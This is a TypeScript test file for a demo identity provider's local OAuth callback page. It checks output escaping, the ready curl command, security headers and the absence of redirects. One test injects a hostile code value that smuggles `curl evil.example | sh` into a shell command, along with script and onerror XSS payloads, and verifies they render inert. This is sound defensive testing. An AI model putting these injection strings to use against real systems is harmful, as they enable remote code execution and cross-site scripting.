/**
 * The demo's local callback page (`http://localhost:<port>/callback`, local server only): it shows
 * the code and a ready curl, escapes everything, redirects nowhere, and offers no command for a
 * code this server would never issue.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CALLBACK_PATH, serveDemoCallback } from '../../local/callback-page.js';
import { seedDemoTenant, type DemoTenant } from '../../local/seed.js';
import { basic, http, startTestServer, type TestServer } from '../support/server.js';

let server: TestServer;
let demo: DemoTenant;
let callbackUri: string;

beforeAll(async () => {
  server = await startTestServer();
  callbackUri = `http://localhost:${server.port}${CALLBACK_PATH}`;
  demo = await seedDemoTenant(mkdtempSync(join(tmpdir(), 'idp-demo-')), callbackUri);
  serveDemoCallback({
    origin: server.origin('demo', 'us'),
    tenantId: demo.tenant.id,
    redirectUri: callbackUri,
  });
});
afterAll(async () => {
  serveDemoCallback(undefined);
  await server.stop();
});

const page = (query: string, host = `localhost:${server.port}`) =>
  http(`http://${host}${CALLBACK_PATH}?${query}`, { redirect: 'manual' });

describe('local callback page', () => {
  it('is registered as a redirect URI of the demo tenant built-in client', async () => {
    const res = await http(`${server.origin('demo', 'us')}/v1/clients/${demo.tenant.id}`, {
      headers: { authorization: basic(demo.secret) },
    });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { redirect_uris: string[] }).redirect_uris).toContain(callbackUri);
    // Seeding again keeps one entry.
    await seedDemoTenant(mkdtempSync(join(tmpdir(), 'idp-demo-')), callbackUri);
  });

  it('shows the code, the state and a ready curl for the demo token endpoint', async () => {
    const res = await page('code=AbC-123_x.y~z&state=xyz');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
    const body = await res.text();
    expect(body).toContain('<code id="code">AbC-123_x.y~z</code>');
    expect(body).toContain('<code id="state">xyz</code>');
    expect(body).toContain(
      `curl -s -X POST &#39;${server.origin('demo', 'us')}/oidc/token&#39; -u &quot;${demo.tenant.id}:$SECRET&quot;`,
    );
    expect(body).toContain(`-d redirect_uri=&#39;${callbackUri}&#39;`);
  });

  it('escapes a hostile code and state, offers no command for them, and redirects nowhere', async () => {
    const code = `'; curl evil.example | sh; echo '<script>alert(1)</script>`;
    const state = `"><img src=x onerror=alert(1)>`;
    const res = await page(
      `code=${encodeURIComponent(code)}&state=${encodeURIComponent(state)}&error_description=${encodeURIComponent('<b>x</b>')}&error=x`,
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('location')).toBeNull();
    expect(res.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    const body = await res.text();
    expect(body).not.toContain('<script>');
    expect(body).not.toContain('<img');
    expect(body).not.toContain('<b>');
    expect(body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(body).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
    expect(body).not.toContain('id="curl"');
    expect(body).toContain('not in the form this server issues');
  });

  it('is not served on tenant hosts nor for other methods', async () => {
    const onTenant = await page('code=abc', `demo.us.localhost:${server.port}`);
    expect(onTenant.status).toBe(404);
    const post = await http(`http://localhost:${server.port}${CALLBACK_PATH}`, { method: 'POST' });
    expect(post.status).not.toBe(200);
  });
});
